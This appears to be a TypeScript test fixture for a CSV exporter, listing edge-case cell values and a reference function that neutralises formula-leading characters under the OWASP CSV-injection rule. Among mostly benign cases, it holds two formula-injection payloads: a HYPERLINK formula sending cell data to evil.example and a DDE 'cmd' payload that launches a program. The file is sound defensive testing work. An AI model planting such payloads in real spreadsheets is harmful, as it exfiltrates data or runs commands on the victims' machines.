/** Cells that have broken CSV writers and spreadsheets before. */
export const hostileCells: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '+44 20 7946 0958',
  '-',
  '=',
  'He said "hello", then left',
  '"',
  '""',
  'line one\r\nline two',
  'line one\nline two',
  'carriage\rreturn',
  'trailing newline\n',
  'a,b,c',
  ',',
  'tab\tinside',
  '👩🏽‍💻 dev 😀',
  'שלום עולם',
  'مرحبا بالعالم',
  'mixed abc שלום 123',
  'e\u0301 combining',
  "'already quoted",
  '  padded  ',
  '',
  'x'.repeat(10_000),
  `${'é,"\n'.repeat(2_500)}`
]

/** Our own statement of the OWASP rule, written independently of the exporter. */
export function expectedCell(value: string): string {
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value
}
